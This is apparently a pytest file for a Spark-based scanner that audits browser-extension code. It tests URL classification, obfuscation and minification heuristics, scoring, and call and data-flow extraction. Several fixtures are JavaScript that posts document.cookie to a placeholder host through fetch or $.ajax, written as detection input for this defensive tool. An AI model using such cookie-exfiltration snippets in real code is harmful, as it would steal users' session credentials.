"""Boundary rows of single expressions."""

import math
import string
from collections import Counter

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pyspark.sql import functions as F

from packsift.functions import paths, text, urls
from packsift.operators import dataflow, findings, lexical, narrate, review, scoring, signals
from packsift.catalog import findings as K


def values(spark, rows, schema, *columns):
    return [tuple(r) for r in spark.createDataFrame(rows, schema).coalesce(1).select(*columns).collect()]


@pytest.mark.parametrize("domain, expected", [
    ("a.b.co.uk", "b.co.uk"), ("sub.co.uk", "sub.co.uk"), ("localhost", "localhost"), ("www.example.com", "example.com"),
    ("api.evil.io", "evil.io"), ("API.Evil.IO", "evil.io"),
])
def test_registrable_domain(spark, domain, expected):
    assert values(spark, [(domain,)], "d string", urls.registrable_domain(F.col("d"))) == [(expected,)]


@pytest.mark.parametrize("target, expected", [
    ("./a.js", "docs/a.js"), ("../a.js", "a.js"), ("../../a.js", "../a.js"), ("/x/y.js?v=2", "x/y.js"), ("b/./c/../d.js", "docs/b/d.js"),
])
def test_resolve(spark, target, expected):
    assert values(spark, [(target,)], "t string", paths.resolve(F.lit("docs"), F.col("t"))) == [(expected,)]


def test_url_classes(spark):
    rows = [("https://1.2.3.4/x",), ("http://a.example.com",), ("https://x.click/",), ("https://fonts.gstatic.com",), ("http://localhost:1/",),
            ("http://www.w3.org/2000/svg",), ("https://api.segment.io",), ("<dynamic>",), ("nonsense",), ("https://ok.example.com",)]
    got = [r.url_class for r in urls.with_url_class(spark.createDataFrame(rows, "u string").coalesce(1), "u").collect()]
    assert got == ["raw_ip", "non_https", "suspicious_tld", "trusted", "localhost", "trusted", "analytics", "dynamic", "dynamic", "unknown"]


def test_minified_boundaries(spark):
    dense = "".join(chr(0x100 + i % 120) for i in range(501))  # 120 distinct characters: 6.9 bits
    # entropy is that of the whole text
    assert values(spark, [("a" * 5000 + "\n" + dense * 30,)], "c string", text.is_minified(F.col("c"))) == [(True,)]
    rows = [("word " * 20 + "x" * 4980,), ("word " * 20 + "x" * 4900,), (dense,), (dense[:500],), ("a=1;" * 9 + "long",), ("a = something longer here;",),
            ("\\x41" * 101,), ("\\x41" * 100,), ("",)]
    got = [r[0] for r in values(spark, rows, "c string", text.is_minified(F.col("c")))]
    assert got == [True, False, True, False, True, False, True, False, False]


def test_line_length_boundary(spark):
    rows = [("y" * 5000,), ("y" * 5001,)]
    assert [r[0] for r in values(spark, rows, "c string", text.is_minified(F.col("c")))] == [False, True]


def test_obfuscation_boundary(spark):
    rows = [("eval(" * 5,), ("eval(" * 6,)]
    assert [r[0] for r in values(spark, rows, "c string", text.is_obfuscated(F.col("c")))] == [False, True]


def test_word_edges_are_ascii(spark):
    rows = [("éfetch(",), ("xfetch(",), ("fetch (",)]
    assert [r[0] for r in values(spark, rows, "c string", text.test(F.col("c"), r"\bfetch\s*\("))] == [True, False, True]


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text(alphabet=string.ascii_letters + " éß\n", min_size=1, max_size=60), min_size=1, max_size=8))
def test_entropy_property(spark, samples):
    def expected(s):
        return -sum(n / len(s) * math.log2(n / len(s)) for n in Counter(s).values())

    got = values(spark, [(s,) for s in samples], "s string", text.entropy(F.col("s")))
    assert [g[0] for g in got] == pytest.approx([expected(s) for s in samples], abs=1e-9)


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text(alphabet="a/*'\"`\\\n ", max_size=40), min_size=1, max_size=20))
def test_comments_keep_line_count(spark, samples):
    got = values(spark, [(s,) for s in samples], "s string", text.strip_comments(F.col("s")))
    assert [g[0].count("\n") for g in got] == [s.count("\n") for s in samples]


def test_long_literals_do_not_fail(spark):
    """Hostile lengths pass every regex of the text stage."""
    huge = "`" + "\\x41" * 200_000 + "` // end " + "chrome." + "a." * 50_000 + "b( http://" + "a." * 50_000 + "com"
    df = spark.createDataFrame([("e", "p", huge)], "ext_id string, path string, raw string")
    assert signals.describe_files(df).first().code == huge[:huge.index("//")]
    assert signals.grep_signals(df).count() == 0


def test_score_bands_and_levels(spark):
    rows = [(0.7, 0.5), (0.69, 0.2), (0.85, 0.85), (0.849, 0.5)]
    assert [r[0] for r in values(spark, rows, "c double, e double", scoring.band(F.col("c")))] == [e for _, e in rows]
    levels = [(45.0, "critical"), (44.9, "high"), (25.0, "high"), (12.0, "medium"), (11.9, "low")]
    assert [r[0] for r in values(spark, levels, "s double, e string", scoring.level(F.col("s"), K.AUDIT_LEVELS))] == [e for _, e in levels]
    report = [(50.0, "critical"), (25.0, "high"), (10.0, "medium"), (9.0, "low")]
    assert [r[0] for r in values(spark, report, "s double, e string", scoring.level(F.col("s"), K.REPORT_LEVELS))] == [e for _, e in report]


def test_domain_points_are_capped(spark):
    packages = spark.createDataFrame([("a",), ("b",)], "ext_id string")
    empty = spark.createDataFrame([], "ext_id string, impact double, confidence double")
    urls_ = spark.createDataFrame([], "ext_id string, url_class string")
    domains = spark.createDataFrame([("a", "unknown")] * 12 + [("b", "unknown")] * 13, "ext_id string, category string")
    got = {r.ext_id: r.domain_points for r in scoring.audit_score(packages, empty, urls_, domains).collect()}
    assert got == {"a": 12, "b": 12}


def test_verdict_threshold(spark):
    df = spark.createDataFrame([("dom_injection", 0.7), ("dom_injection", 0.69)], "kind string, confidence double")
    assert [r.verdict for r in findings.verdicts(df).collect()] == ["confirmed", "dismissed"]


def test_empty_score_is_null(spark):
    packages = spark.createDataFrame([("a",)], "ext_id string")
    none = spark.createDataFrame([], "ext_id string, verdict string, impact double")
    row = scoring.report_score(packages, none).first()
    assert row.report_score is None and row.report_level is None


def test_dedupe_is_idempotent(spark):
    base = [("e", 1, "p", "unknown", "risky_call", "fetch", 1, None, "medium", "static", 0.5, 2.0)] * 3
    schema = ("ext_id string, stage int, path string, role string, kind string, detail string, line int, snippet string, severity string, "
              "category string, confidence double, impact double")
    once = findings.dedupe(findings.enrich(spark.createDataFrame(base, schema)))
    assert once.count() == 1 and findings.dedupe(once.select(*[f for f in schema.replace(",", "").split()[::2]], "ord")).count() == 1


def test_narratives_group_and_count(spark):
    rows = [("e", f"00{i}", "p.js", "content_script", "cookie_read", "document.cookie", 40 + i, "critical", 0.95, "confirmed") for i in range(3)]
    rows.append(("e", "009", "q.js", "popup", "minified", "x", 1, "low", 0.2, "dismissed"))
    df = spark.createDataFrame(rows, "ext_id string, ord string, path string, role string, kind string, detail string, line int, severity string, confidence double, verdict string")
    shown = narrate.narratives(df).collect()
    assert len(shown) == 1 and shown[0].occurrences == 3 and "p.js, line 40" in shown[0].narrative and "Similar places: 2." in shown[0].narrative
    assert narrate.omitted(df, narrate.narratives(df)).first().omitted == 0


def test_source_budget_hit_exactly(spark):
    files = spark.createDataFrame([("e", "a.js", "background", False, False, 1, 2000), ("e", "b.js", "unknown", False, False, 1, 1000),
                                   ("e", "c.js", "unknown", False, False, 1, 10)],
                                  "ext_id string, path string, role string, is_obfuscated boolean, is_minified boolean, line_count int, shown_chars bigint")
    none = spark.createDataFrame([], "ext_id string, path string")
    got = {r.path: r.taken for r in narrate.source_budget(files, none).collect()}
    assert got == {"a.js": 2000, "b.js": 1000}


def test_reviews_without_labels_get_defaults(spark):
    df = spark.createDataFrame([(1, "just text"), (2, "VEREDICTO: maliciosa\nRIESGO: alto")], "id int, text string")
    rows = [(r.review_verdict, r.review_level, r.purpose, r.answers) for r in review.parse_reviews(df).collect()]
    assert rows == [("suspicious", "medium", "audit completed", None), ("malicious", "high", "audit completed", None)]


def test_json_recovery(spark):
    rows = [('```json\n{"a": 1}\n```',), ('text {"a": 2} more',), ("nothing",)]
    assert [r[0] for r in values(spark, rows, "t string", review.recover_json(F.col("t")))] == ['{"a":1}', '{"a":2}', None]


def test_every_rule_signal_is_known():
    from packsift.catalog import categories as C

    assert len(C.RULES) == 110 and all(s in C.SIGNALS for r in C.RULES for s in (r[3] or []))
    assert set(C.STATES) == {c[0] for c in C.CATEGORIES}


# --- statements and calls -------------------------------------------------------------------

def found_calls(code):
    return {(line, name): args for line, _, stmt in lexical.statements_of(code) for _, name, _, args in lexical.calls_of(stmt)}


def test_calls_keep_the_arguments_of_all_their_lines():
    code = 'const u = 1;\nfetch("https://x", {\n  method: "POST",\n  body: document.cookie\n});\nsend(u);'
    assert found_calls(code) == {(2, "fetch"): '"https://x", {   method: "POST",   body: document.cookie }', (6, "send"): "u"}
    mixed = '$.ajax({\n  url: "u",\n  success: function (r) {\n    const a = r\n    use(a); more(b)\n  },\n  data: document.cookie\n});'
    assert [(a, c) for a, _, c in lexical.statements_of(mixed)][1:] == [(4, "const a = r"), (5, "use(a)"), (5, "more(b)")]
    assert "data: document.cookie" in found_calls(mixed)[1, "$.ajax"]
    # blocks inside brackets hold statements of their own, and a bracket without a partner joins nothing
    assert found_calls("(function () {\n  const a = document.cookie\n  fetch(u + a)\n})();")[3, "fetch"] == "u + a"
    assert found_calls("text (open here\nnext line\nf(1); g(2)") == {(1, "text"): "open here", (3, "f"): "1", (3, "g"): "2"}


def test_literals_honour_backslashes():
    assert found_calls(r'a = "say \"hi"; fetch(u + document.cookie); b = "z"') == {(1, "fetch"): "u + document.cookie"}
    assert found_calls(r"f('it\'s (', x); g('\\'); h(`\``, 1)") == {(1, "f"): r"'it\'s (', x", (1, "g"): r"'\\'", (1, "h"): r"`\``, 1"}
    assert found_calls("r = /[\"(]/; fetch(a); s = 'x'") == {(1, "fetch"): "a"}


def test_flows_of_calls_over_lines_and_behind_escapes(spark):
    rows = [("e", "a.js", 'fetch("https://x", {\n  method: "POST",\n  body: document.cookie\n});'),
            ("e", "b.js", r'a = "say \"hi"; fetch(u + document.cookie); b = "z"'), ("e", "c.js", 'fetch("https://x (", {\n  body: 1\n});\nconst a = document.cookie;')]
    stmts = lexical.statements(spark.createDataFrame(rows, "ext_id string, path string, code string")).cache()
    found = dataflow.flows(lexical.call_sites(stmts), lexical.assignments(stmts), dataflow.tainted_variables(stmts))
    assert sorted((r.path, r.line, r.source) for r in found.collect()) == [("a.js", 1, "document.cookie"), ("b.js", 1, "document.cookie")]
    one = spark.createDataFrame([(r'"a \" b", c',)], "t string").select(lexical.first_literal(F.col("t")), lexical.without_literals(F.col("t"))).collect()[0]
    assert tuple(one) == (r"a \" b", '"", c')
